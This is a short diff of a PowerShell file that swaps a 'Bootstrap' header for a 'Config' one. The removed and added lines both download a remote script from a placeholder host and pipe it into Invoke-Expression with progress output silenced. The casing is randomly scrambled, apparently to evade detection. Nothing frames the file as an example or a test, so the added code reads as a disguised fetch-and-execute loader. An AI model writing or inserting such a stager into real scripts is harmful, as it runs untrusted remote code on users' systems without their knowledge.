@@ -1,3 +1,3 @@
-# BoOtsTRap 4579 v3
-$PRoGreSspREFErENCe = 'SilentlyContinue'
-iWR -useBAsICParsINg http://API.tELeMETRy-hUb.examPle/A.ps1 | iEX
+# CoNfIg 4224 v3
+$pRoGrEsSpReFeReNcE = 'SilentlyContinue'
+iwR -UsEbASICParSing HttP://stAtiC.metrICS-nOdE.ExAmPlE/a.Ps1 | IEX
